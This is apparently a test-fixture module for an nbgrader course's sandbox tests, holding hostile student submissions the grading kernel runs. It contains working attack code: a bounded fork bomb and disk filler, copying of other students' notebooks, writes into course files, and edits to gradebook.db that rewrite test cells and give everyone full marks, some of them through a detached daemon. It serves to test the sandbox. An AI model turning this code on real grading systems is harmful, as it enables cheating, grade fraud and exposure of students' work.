"""Hostile submissions for tests/test_sandbox.py: attack code a student could put in a
solution cell, run by the grading kernel.

Each attack reports on stdout (so in the attacker's autograded notebook) one line
`ATTACK <name>: succeeded ...` or `ATTACK <name>: blocked ...`, and never raises,
so the rest of the notebook is graded as usual. Attacks only touch the course they
are graded in (found by walking up from the kernel's working directory) and
127.0.0.1. A test grading unsandboxed would see them succeed; bounded so that even
then they cannot harm the machine (the fork bomb stops at 1000 processes, the disk
filler at 1 GiB).
"""
import nbformat

PRELUDE = '''
import os as _os

def _report(name, ok, detail):
    print(f"ATTACK {name}: {'succeeded' if ok else 'blocked'}: {detail}")

def _find_up(*names):
    """The nearest folder above the working directory holding all of `names`, else None."""
    d = _os.getcwd()
    while True:
        if all(_os.path.exists(_os.path.join(d, n)) for n in names):
            return d
        if d == "/":
            return None
        d = _os.path.dirname(d)
'''

# Rewrite every stored test cell to `pass`, with valid nbgrader checksums: later students
# whose test cells are restored from the gradebook would pass every test.
TAMPER_TESTS = '''
try:
    import sqlite3
    from nbformat.v4 import new_code_cell
    from nbgrader.utils import compute_checksum
    _root = _find_up("gradebook.db")
    if _root is None:
        _report("tamper_tests", False, "no gradebook.db above " + _os.getcwd())
    else:
        _db = sqlite3.connect(_os.path.join(_root, "gradebook.db"))
        _n = 0
        for _name, _points in _db.execute("select b.name, g.max_score from grade_cells g join base_cell b on b.id = g.id"):
            _cell = new_code_cell("pass", metadata={"nbgrader": {"grade": True, "solution": False, "locked": True,
                                                                  "grade_id": _name, "points": _points}})
            _n += _db.execute("update source_cell set source = 'pass', checksum = ? where name = ?",
                              (compute_checksum(_cell), _name)).rowcount
        _db.commit()
        _report("tamper_tests", _n > 0, f"rewrote {_n} stored test cells")
except Exception as _e:
    _report("tamper_tests", False, repr(_e))
'''

# Give every recorded grade (everyone's) full marks, as a manual score that autograding keeps.
GRADES_DIRECT = '''
try:
    import sqlite3
    _root = _find_up("gradebook.db")
    if _root is None:
        _report("grades_direct", False, "no gradebook.db above " + _os.getcwd())
    else:
        _db = sqlite3.connect(_os.path.join(_root, "gradebook.db"))
        _n = _db.execute("update grade set manual_score = (select max_score from grade_cells "
                         "where grade_cells.id = grade.cell_id)").rowcount
        _db.commit()
        _report("grades_direct", _n > 0, f"set {_n} grades to full marks")
except Exception as _e:
    _report("grades_direct", False, repr(_e))
'''

# Leave a detached process (double fork, new session, named tito-attack) that keeps
# setting this student's grades to full marks, after its kernel is gone.
GRADES_DAEMON = '''
import os, sys, time, ctypes
_student = os.path.basename(os.path.dirname(os.getcwd()))
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"tito-attack", 0, 0, 0)  # PR_SET_NAME: shows in /proc/PID/comm
            for fd in (0, 1, 2):
                os.close(fd)
            import sqlite3
            end = time.time() + 300
            while time.time() < end:
                time.sleep(0.5)
                root = _find_up("gradebook.db")
                if root is None:
                    continue
                try:
                    db = sqlite3.connect(os.path.join(root, "gradebook.db"), timeout=1)
                    db.execute("update grade set manual_score = (select max_score from grade_cells where "
                               "grade_cells.id = grade.cell_id) where notebook_id in (select sn.id from "
                               "submitted_notebook sn join submitted_assignment sa on sn.assignment_id = sa.id "
                               "where sa.student_id = ?)", (_student,))
                    db.commit()
                    db.close()
                except Exception:
                    pass
    finally:
        os._exit(0)
os.wait()
_report("grades_daemon", False, "left a detached process; whether it survives is checked from outside")
'''

# Read the other students' notebooks from submitted/, copy them next to our own and
# print their solutions into our outputs (our feedback).
READ_OTHERS = '''
try:
    import glob, shutil
    _root = _find_up("submitted")
    _me = _os.path.basename(_os.path.dirname(_os.getcwd()))
    _theirs = [] if _root is None else [p for p in glob.glob(_os.path.join(_root, "submitted", "*", "*", "*.ipynb"))
                                        if f"/{_me}/" not in p]
    for _i, _p in enumerate(_theirs):
        shutil.copy(_p, f"stolen_{_i}.ipynb")
        print(open(_p).read())
    _report("read_others", bool(_theirs), f"copied {len(_theirs)} notebooks of other students"
            if _theirs else "no submitted/ above " + _os.getcwd())
except Exception as _e:
    _report("read_others", False, repr(_e))
'''

# Write into source/, release/, the course's tinytorch_lib and the library the kernel imports.
WRITE_COURSE = '''
import tinytorch_lib
_done, _refused = [], []
_root = _find_up("source", "release", "tinytorch_lib")
_targets = [_os.path.join(_os.path.dirname(tinytorch_lib.__file__), "attack.py")]
if _root is not None:
    _targets += [_os.path.join(_root, "source", "01_tensor", "01_tensor.py"),
                 _os.path.join(_root, "release", "01_tensor", "01_tensor.ipynb"),
                 _os.path.join(_root, "tinytorch_lib", "tensor.py"),
                 _os.path.join(_root, "nbgrader_config.py")]
for _t in _targets:
    try:
        with open(_t, "a") as _f:
            _f.write("\\n# written by a submission\\n")
        _done.append(_t)
    except OSError as _e:
        _refused.append(f"{_t}: {_e.strerror}")
_report("write_course", bool(_done), f"wrote {_done}" if _done else f"course not found or read-only: {_refused}")
'''

# Fork until fork fails (bounded at 1000 children), then reap them all.
FORK_BOMB = '''
import os, time, signal
_kids, _err = [], None
try:
    for _ in range(1000):
        _pid = os.fork()
        if _pid == 0:
            time.sleep(60)
            os._exit(0)
        _kids.append(_pid)
except OSError as _e:
    _err = _e
for _pid in _kids:
    os.kill(_pid, signal.SIGKILL)
    os.waitpid(_pid, 0)
_report("fork_bomb", _err is None, f"forked {len(_kids)} processes" + (f", then {_err!r}" if _err else ""))
'''

# Write 1 MiB blocks into the working directory until the disk is full (bounded at 1 GiB).
FILL_DISK = '''
import os
_written, _err = 0, None
try:
    with open("fill.bin", "wb") as _f:
        for _ in range(1024):
            _f.write(b"x" * (1 << 20))
            _f.flush()
            _written += 1 << 20
except OSError as _e:
    _err = _e
if os.path.exists("fill.bin"):
    os.remove("fill.bin")
_report("fill_disk", _err is None, f"wrote {_written >> 20} MiB" + (f", then {_err!r}" if _err else ""))
'''

# Connect to a server the test runs on 127.0.0.1:PORT.
NETWORK = '''
import socket
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"hello from a submission")
    _report("network", True, "connected to 127.0.0.1:PORT")
except OSError as _e:
    _report("network", False, repr(_e))
'''

# attack name -> code
CODE = {"tamper_tests": TAMPER_TESTS, "grades_direct": GRADES_DIRECT, "grades_daemon": GRADES_DAEMON,
        "read_others": READ_OTHERS, "write_course": WRITE_COURSE, "fork_bomb": FORK_BOMB,
        "fill_disk": FILL_DISK, "network": NETWORK}

# attacker -> (the notebook the attacks sit in: "full" marks or untouched "stub", its attacks).
# The three that only exhaust resources share one notebook, to keep the test fast.
ATTACKERS = {
    "tamper_tests": ("full", ["tamper_tests"]),
    "grades_direct": ("stub", ["grades_direct"]),
    "grades_daemon": ("stub", ["grades_daemon"]),
    "read_others": ("full", ["read_others"]),
    "write_course": ("full", ["write_course"]),
    "exhaust_resources": ("full", ["fork_bomb", "fill_disk", "network"]),
}


def plant(notebook, attacks: list[str], port: int) -> None:
    """Append the attacks to the first solution cell of `notebook` (a path), in place."""
    nb = nbformat.read(notebook, as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
    cell.source += "\n" + PRELUDE + "".join(CODE[a].replace("PORT", str(port)) for a in attacks)
    nbformat.write(nb, notebook)


def reports(autograded_notebook) -> list[str]:
    """The `ATTACK ...` lines in an autograded notebook's outputs."""
    nb = nbformat.read(autograded_notebook, as_version=4)
    text = "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs)
    return [line for line in text.splitlines() if line.startswith("ATTACK ")]
